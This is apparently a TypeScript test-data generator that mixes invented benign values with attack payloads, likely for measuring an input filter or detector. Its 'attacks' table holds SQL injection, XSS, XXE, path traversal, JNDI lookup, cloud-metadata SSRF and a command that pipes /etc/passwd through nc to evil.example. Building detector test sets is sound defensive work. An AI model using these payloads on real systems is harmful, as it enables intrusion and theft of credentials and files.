import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { seeded } from './events.ts';

/** Values to inspect, apart by what they are. */
export interface ValueSample {
  readonly benign: readonly string[];
  readonly attacks: readonly string[];
}

type Random = () => number;
type Maker = (random: Random) => string;

/** Values of each kind in the generated sample. */
const PER_KIND = 600;

function pick<T>(random: Random, list: readonly T[]): T {
  const item = list[Math.floor(random() * list.length)];
  if (item === undefined) throw new Error('empty list');
  return item;
}

function integer(random: Random, below: number): number {
  return Math.floor(random() * below);
}

const nouns =
  'order garden invoice meeting chair report river winter ticket song office recipe train letter window'.split(' ');
const joints = ['and the', 'or a', 'in the', 'of', 'with', 'where the', 'for', 'is', 'like a', 'by the', 'from our'];
const names = ["Sean O'Neill", 'Mira Lindqvist', 'Jean-Luc Béart', 'Ana (Annie) Prado', 'Kofi A. Mensah', '小林 直美'];

/** Nouns, joined as sentences join them. */
function words(random: Random, count: number): string {
  let text = pick(random, nouns);
  for (let more = 1; more < count; more += 2) text += ` ${pick(random, joints)} ${pick(random, nouns)}`;
  return text;
}

function identifier(random: Random, length: number): string {
  return Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789'[integer(random, 46)]).join('');
}

const benign: Readonly<Record<string, Maker>> = {
  identifier: (random) => identifier(random, 8 + integer(random, 30)),
  number: (random) => (random() * 10_000).toFixed(integer(random, 3)),
  name: (random) => pick(random, names),
  mail: (random) => `${pick(random, nouns)}.${integer(random, 99)}@example.com`,
  sentence: (random) => `It's a ${words(random, 8)} (${words(random, 2)}), isn't it? ${words(random, 6)}.`,
  paragraph: (random) =>
    Array.from({ length: 6 }, () => `${words(random, 9)}; "${words(random, 3)}" - ${words(random, 5)}.`).join('\n'),
  path: (random) => `/${pick(random, nouns)}/${integer(random, 9999)}/${pick(random, nouns)}.html`,
  url: (random) =>
    `https://www.example.com/${pick(random, nouns)}?page=${integer(random, 99)}&sort=${pick(random, nouns)}#top`,
  query: (random) => `q=${words(random, 2).replaceAll(' ', '+')}&id=${integer(random, 999)}&lang=en-GB`,
  date: (random) => `2026-1${integer(random, 3)}-${10 + integer(random, 18)}T0${integer(random, 9)}:15:00.000Z`,
  agent: (random) =>
    `Mozilla/5.0 (X11; Linux x86_64; rv:1${integer(random, 50)}.0) Gecko/20100101 Firefox/1${integer(random, 50)}.0`,
  cookie: (random) =>
    `_ga=GA1.2.${integer(random, 1e9)}.${integer(random, 1e9)}; theme=dark; sid=${identifier(random, 24)}`,
  json: (random) =>
    JSON.stringify({ id: integer(random, 1e6), title: words(random, 4), tags: [pick(random, nouns)], active: true }),
  markup: (random) =>
    `<p class="note">${words(random, 6)} <b>${pick(random, nouns)}</b> &amp; <a href="/x">more</a></p>`,
  markdown: (random) =>
    `Run \`npm install ${pick(random, nouns)}\`, then see [${pick(random, nouns)}](https://example.com/a).`,
  encoded: (random) => encodeURIComponent(`${words(random, 3)} / ${integer(random, 100)}%`),
  filter: (random) => `${pick(random, nouns)} eq '${pick(random, nouns)}' and price lt ${integer(random, 500)}`,
};

const attacks: Readonly<Record<string, Maker>> = {
  sqli: (random) => `${integer(random, 99)}' union select ${pick(random, nouns)}, password from users -- `,
  blind: (random) => `${pick(random, nouns)}') and sleep(${1 + integer(random, 9)})#`,
  xss: (random) => `"><img src=${pick(random, nouns)} onerror=alert(${integer(random, 99)})>`,
  scheme: (random) => `javascript:fetch('//evil.example/${pick(random, nouns)}')`,
  command: (random) => `${pick(random, nouns)}; cat /etc/passwd | nc evil.example ${integer(random, 9999)}`,
  traversal: (random) => `${'../'.repeat(3 + integer(random, 5))}etc/passwd`,
  template: (random) => `{{${integer(random, 99)}*${integer(random, 99)}}}`,
  lookup: (random) => `\${jndi:ldap://evil.example/${pick(random, nouns)}}`,
  entity: (random) => `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/${pick(random, nouns)}">]><a>&b;</a>`,
  metadata: (random) => `http://169.254.169.254/latest/${pick(random, nouns)}`,
  operator: (random) => `' || this.${pick(random, nouns)} == '${pick(random, nouns)}`,
  twice: (random) => encodeURIComponent(`<script>alert('${pick(random, nouns)}')</script>`),
};

function generate(makers: Readonly<Record<string, Maker>>, random: Random): string[] {
  return Object.values(makers).flatMap((make) => Array.from({ length: PER_KIND }, () => make(random)));
}

/** A sample of invented values of many kinds, the same each time. */
export function generatedValues(): ValueSample {
  const random = seeded(20_261_126);
  return { benign: generate(benign, random), attacks: generate(attacks, random) };
}

/** Every `step`th row of gzipped JSON Lines with `class` and `value`, without the rows of generators (`synthetic…`). */
export function readValues(directory: string, step: number): ValueSample {
  const sample = { benign: [] as string[], attacks: [] as string[] };
  let at = 0;
  for (const file of readdirSync(directory).sort()) {
    if (!file.endsWith('.jsonl.gz') || file.startsWith('synthetic')) continue;
    for (const line of gunzipSync(readFileSync(path.join(directory, file)))
      .toString('utf8')
      .split('\n')) {
      if (line === '' || at++ % step !== 0) continue;
      const row = JSON.parse(line) as { readonly class: string; readonly value: string };
      (row.class === 'benign' ? sample.benign : sample.attacks).push(row.value);
    }
  }
  return sample;
}
